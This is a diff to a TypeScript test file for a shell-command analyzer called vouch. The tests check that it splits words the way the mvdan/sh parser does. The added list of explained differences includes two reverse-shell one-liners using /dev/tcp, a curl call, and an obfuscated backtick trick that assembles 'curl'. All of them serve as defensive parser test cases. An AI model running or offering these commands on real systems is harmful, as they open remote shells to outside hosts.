@@ -4,7 +4,7 @@ import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { type Analyzer, createAnalyzer } from '../src/index.js';
 import { loadCorpus } from './corpus.js';
-import { type ParseDisagreement, parseDiff } from './parse-diff.js';
+import { type ParseDisagreement, parseDiff, shapeDiff } from './parse-diff.js';
 import { LONG } from './scale.js';
 
 let analyzer: Analyzer;
@@ -54,6 +54,16 @@ const EXPLAINED: Record<string, { right: 'vouch' | 'mvdan' | 'ambiguous'; why: s
     right: 'vouch',
     why: 'an awk sum may print inf (or nan), which arithmetic reads as the variable of that name: its subscript runs curl',
   },
+};
+
+/** Corpus lines whose words vouch reads in another shape than mvdan, each explained. */
+const SHAPES_EXPLAINED: Record<string, string> = {
+  'unset array[$RANDOM%4]': 'vouch lowers the subscript of a name unset is given as a word of its own, whose arithmetic it reads',
+  '`printf cu``printf rl` x': 'two backtick substitutions against each other: vouch reads each (the grammar reads one), with the empty text between them',
+  'echo `date` `curl https://example.com`': 'the grammar reads two backtick substitutions as one from the first backtick to the last; vouch runs each, in one word: a word too few, both bodies read',
+  'echo `date` `echo https://example.com`': 'the benign neighbour of the line above, the same reading',
+  'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1': 'after a statement-level redirection the grammar gives the next one\'s descriptor (`0` of `0>&1`) to the first as a destination; vouch reads it as a word of the command (a file `0`): denied for /dev/tcp either way',
+  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1': 'the same as the line above',
 };
 
 /** Classes of difference explained once for every line they cover (the corpus grows from rule examples). */
@@ -133,6 +143,29 @@ describe('parse differential against mvdan/sh', () => {
     const differing = new Set(ds.map((d) => d.command));
     const fixed = Object.entries(EXPLAINED).filter(([c, e]) => e.right === 'mvdan' && !differing.has(c));
     expect(fixed.map(([c]) => c), 'vouch now agrees with mvdan here: remove the EXPLAINED entry').toEqual([]);
+  });
+
+  it('reads the words of every bash corpus line in the shape mvdan reads them, or the difference is explained', () => {
+    const cases = loadCorpus().filter((c) => c.shell === 'bash' && c.command.length < 4_000);
+    const ds = cases.map((c) => ({ command: c.command, diffs: shapeDiff(c.command) })).filter((d) => d.diffs.length > 0);
+    console.log(`parse-diff words, corpus: ${cases.length} lines, ${ds.length} differ`);
+    expect(ds.filter((d) => !SHAPES_EXPLAINED[d.command]).map((d) => `${d.command}  ${d.diffs.join(' | ')}`)).toEqual([]);
+  });
+
+  it('reads generated words of names and separators in the shape mvdan reads them', () => {
+    // The class of the `$A/$D/y` split: heads, separators and tails combined, in the places a word stands.
+    const heads = ['$A', '${A}', '"$A"', "'a'$A", 'x$A', '$1', '"$@"', '$(a)'];
+    const seps = ['/', '.', '-', ':', '@', '+', '%', '=', ',', '/b', '~'];
+    const mids = ['$B', '${B}', '$1', '$(b)', '"$B"'];
+    const tails = ['', '/y', '.y', '$C', '$C/z', ' "$C $D"', " \\  x", ' $ x', ' $ x"y"'];
+    const places = [(w: string) => `cat ${w}`, (w: string) => `echo x > ${w}`, (w: string) => `X=${w} cat`, (w: string) => `for f in ${w}; do cat; done`, (w: string) => `export X=${w}`];
+    const wrong: string[] = [];
+    for (const h of heads) for (const s of seps) for (const m of mids) for (const t of tails) for (const place of places) {
+      const line = place(`${h}${s}${m}${t}`);
+      const d = shapeDiff(line);
+      if (d.length > 0) wrong.push(`${line}  ${d.join(' | ')}`);
+    }
+    expect(wrong.slice(0, 20)).toEqual([]);
   });
 
   it.runIf(LONG || process.env.VOUCH_PARSE_DIFF === '1')('reports disagreements over nl2bash (a report, run by npm run fuzz:parse-diff and npm run fuzz)', () => {
